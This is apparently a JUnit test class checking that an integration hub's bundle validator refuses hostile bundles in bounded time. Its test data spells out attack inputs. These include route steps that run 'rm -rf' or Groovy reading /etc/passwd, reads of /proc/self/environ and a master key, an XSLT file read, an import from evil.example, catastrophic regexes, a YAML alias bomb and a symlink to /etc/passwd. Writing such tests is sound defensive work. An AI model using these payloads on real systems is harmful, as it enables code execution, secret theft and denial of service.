package cn.tongban.hub.release;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import cn.tongban.hub.mapping.BundleFiles;
import cn.tongban.hub.mapping.ContractLibrary;
import cn.tongban.hub.mapping.MappingLibrary;
import cn.tongban.hub.support.HubException;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Bundles made by somebody who means harm: refused or bounded, with a reason, in bounded time. */
class HostileBundleTest {
    private static final Duration SOON = Duration.ofSeconds(20);
    private static final BundleFiles BASE = BundleFiles.fromDirectory(Path.of("src/test/resources/release/base"));
    private static final String ROUTE = "routes/intake/intake.record.camel.yaml";
    private static final String KAMELET = "connectors/bureau/bureau-submit-sink.kamelet.yaml";
    private static final String CONTRACT = "connectors/desk/contract/case.schema.json";
    private static final String MAPPING = "mappings/desk/case-to-canonical.jslt";
    private static final LocalDate DAY = LocalDate.of(2026, 3, 16);

    @TempDir
    private Path folder;

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "to: {uri: \"exec:rm?args=-rf\"}|unknown-endpoint",
        "to: {uri: \"file:/etc\"}|unknown-endpoint",
        "to: {uri: \"bean:java.lang.Runtime\"}|unknown-endpoint",
        "to: {uri: \"class:java.lang.Runtime\"}|unknown-endpoint",
        "bean: {beanType: java.lang.Runtime, method: getRuntime}|step-not-allowed",
        "script: {groovy: \"new File('/etc/passwd').text\"}|step-not-allowed",
        "setVariable: {name: x, groovy: \"1\"}|script",
        "setVariable: {name: x, constant: \"resource:file:/proc/self/environ\"}|resource",
        "setVariable: {name: x, simple: \"resource:classpath:application.yaml\"}|resource",
        "setVariable: {name: x, constant: \"{{env:HUB_MASTER_KEY_FILE}}\"}|unknown-setting",
        "to: {uri: \"xslt:file:/tmp/x.xslt\"}|unknown-endpoint",
    })
    void whatRunsCodeOrReadsTheDiskIsRefusedAtItsLine(String step, String rule) {
        String text = BASE.text(ROUTE).replaceFirst(" {8}- to:", "        - " + step + "\n        - to:");

        assertThat(soon(ROUTE, text)).anySatisfy(found -> {
            assertThat(found.rule()).isEqualTo(rule);
            assertThat(found.line()).isEqualTo(10);
        });
    }

    @Test
    void aTransformationThatReadsAFileIsNoKindOfFileThatABundleHolds() {
        String xslt = "<x:stylesheet version=\"1.0\" xmlns:x=\"http://www.w3.org/1999/XSL/Transform\">"
                + "<x:template match=\"/\"><x:copy-of select=\"document('file:///etc/passwd')\"/></x:template></x:stylesheet>";

        assertThat(soon("mappings/desk/case-to-canonical.xslt", xslt)).extracting(Finding::rule)
                .contains("policy-file-type");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "def f(x) f($x) f(.no)|recursion",
        "def f(x) g($x) def g(x) f($x) f(.no)|recursion",
        "import \"http://evil.example/x\" as x {}|import",
        "{\"caseNo\": capture(.no, \"(a+)+$\")}|pattern-function",
        "{\"caseNo\": test(.no, \"(a+)+$\")}|pattern-function",
    })
    void aMappingThatMayNotEndIsRefused(String jslt, String rule) {
        assertThat(soon(MAPPING, jslt)).filteredOn(found -> found.file().equals(MAPPING)).extracting(Finding::rule)
                .contains(rule);
    }

    @Test
    void aMappingNestedWithoutEndIsRefused() {
        assertThat(soon(MAPPING, "(".repeat(200_000))).extracting(Finding::rule).contains("jslt");
        assertThat(soon(MAPPING, "if (.no) 1 else ".repeat(50_000) + "2")).extracting(Finding::rule).contains("jslt");
    }

    @Test
    void aDocumentWithoutEndIsNotMade() {
        StringBuilder text = new StringBuilder("let a0 = [.no, .no]\n");
        for (int i = 1; i < 40; i++) {
            text.append("let a%d = [$a%d, $a%d]\n".formatted(i, i - 1, i - 1));
        }
        MappingLibrary mappings = MappingLibrary.compile(
                files("mappings/desk/big.jslt", text + "{\"a\": $a39}"));
        var none = JsonMapper.builder().build().createObjectNode().put("no", "1");

        HubException refused = assertTimeoutPreemptively(SOON, () -> catchThrowableOfType(
                HubException.class, () -> mappings.map("desk/big", none, none)));

        assertThat(refused.places()).extracting(place -> place.rule()).containsExactly("output-size");
    }

    @ParameterizedTest
    @ValueSource(strings = {"(?=a)b", "(a)\\\\1", "((((a{999}){999}){999}){999})", "(a"})
    void aPatternThatCannotBeMatchedSafelyIsRefusedAtItsLine(String pattern) {
        String text = "{\n  \"type\": \"object\",\n  \"properties\": {\n    \"no\": {\"type\": \"string\", \"pattern\": \""
                + pattern + "\"}\n  }\n}\n";

        assertThat(soon(CONTRACT, text)).anySatisfy(found -> {
            assertThat(found.rule()).isEqualTo("pattern");
            assertThat(found.line()).isEqualTo(4);
        });
    }

    @Test
    void aCatastrophicPatternIsMatchedInLinearTime() {
        ContractLibrary contracts = ContractLibrary.compile(files(CONTRACT,
                "{\"type\": \"string\", \"pattern\": \"^(a+)+(b|b)*$\"}"));
        var text = TextNode.valueOf("a".repeat(50_000) + "!");

        assertTimeoutPreemptively(SOON, () ->
                assertThat(contracts.validate("desk/case", text, DAY).isValid()).isFalse());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "{\"$ref\": \"#\"}",
        "{\"properties\": {\"a\": {\"$ref\": \"#/$defs/a\"}}, \"$defs\": {\"a\": {\"allOf\": [{\"$ref\": \"#/$defs/a\"}]}}}",
        "{\"$dynamicRef\": \"#x\"}",
    })
    void aContractThatRefersToItselfIsRefused(String text) {
        assertThat(soon(CONTRACT, text)).filteredOn(found -> found.file().equals(CONTRACT)).extracting(Finding::rule)
                .contains("json-schema");
    }

    @Test
    void aContractThatMultipliesItselfIsRefused() {
        StringBuilder defs = new StringBuilder("\"d0\": {\"type\": \"string\"}");
        for (int i = 1; i < 40; i++) {
            defs.append(", \"d%d\": {\"allOf\": [{\"$ref\": \"#/$defs/d%d\"}, {\"$ref\": \"#/$defs/d%d\"}]}".formatted(i, i - 1, i - 1));
        }

        assertThat(soon(CONTRACT, "{\"$ref\": \"#/$defs/d39\", \"$defs\": {" + defs + "}}")).extracting(Finding::rule)
                .contains("json-schema");
    }

    @Test
    void deepAndSelfMultiplyingFilesAreRefused() {
        String bomb = "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b]\n";

        assertThat(soon("routes/intake/flow.yaml", bomb)).extracting(Finding::rule).contains("yaml");
        assertThat(soon(ROUTE, "[".repeat(100_000))).extracting(Finding::rule).contains("yaml");
        assertThat(soon(CONTRACT, "[".repeat(100_000))).extracting(Finding::rule).contains("json");
        assertThat(soon("mappings/desk/golden/case-to-canonical/typical.in.json", "[".repeat(100_000)))
                .extracting(Finding::rule).contains("json");
    }

    @Test
    void linesOfMegabytesKeepTheValidatorNoLongerThanOthers() {
        String kamelet = BASE.text(KAMELET).replace("application/json", "\"" + "{{".repeat(400_000) + "\"");

        assertThat(soon(CONTRACT, "{\"description\": \"" + "eyJ-".repeat(400_000) + "\"}")).extracting(Finding::rule)
                .contains("line-length");
        assertThat(soon(ROUTE, BASE.text(ROUTE) + "# " + "${".repeat(900_000) + "\n")).extracting(Finding::rule)
                .contains("line-length");
        assertThat(soon(KAMELET, kamelet)).extracting(Finding::rule).contains("line-length");
    }

    @Test
    void linksAndHugeOrSpecialFilesInAFolderAreNotRead() throws IOException {
        refused(folder -> Files.createSymbolicLink(folder.resolve("routes/intake/passwd.md"), Path.of("/etc/passwd")),
                "link that leaves the bundle");
        refused(folder -> Files.createSymbolicLink(folder.resolve("routes/ring"), folder.resolve("routes")), "link to a folder");
        refused(folder -> {
            try (RandomAccessFile huge = new RandomAccessFile(folder.resolve("routes/intake/huge.md").toFile(), "rw")) {
                huge.setLength(1L << 30);
            }
        }, "larger than 2 MiB");
    }

    @Test
    void theSizeOfAllFilesTogetherIsBounded() throws IOException {
        refused(folder -> {
            for (int i = 0; i < 20; i++) {
                Files.write(folder.resolve("routes/intake/part" + i + ".md"), new byte[2 * 1024 * 1024]);
            }
        }, "larger than 32 MiB");
    }

    private interface Harm {
        void into(Path folder) throws IOException;
    }

    private void refused(Harm harm, String why) throws IOException {
        Path own = Files.createTempDirectory(folder, "bundle");
        Files.createDirectories(own.resolve("routes/intake"));
        harm.into(own);

        HubException refused = assertTimeoutPreemptively(SOON, () -> catchThrowableOfType(
                HubException.class, () -> BundleFiles.fromDirectory(own)));

        assertThat(refused).hasMessageContaining(why);
    }

    private static List<Finding> soon(String path, String text) {
        return assertTimeoutPreemptively(SOON, () -> BundleValidator.validate(BASE.with(files(path, text))));
    }

    private static BundleFiles files(String path, String text) {
        return BundleFiles.of(Map.of(path, text.getBytes(StandardCharsets.UTF_8)));
    }
}
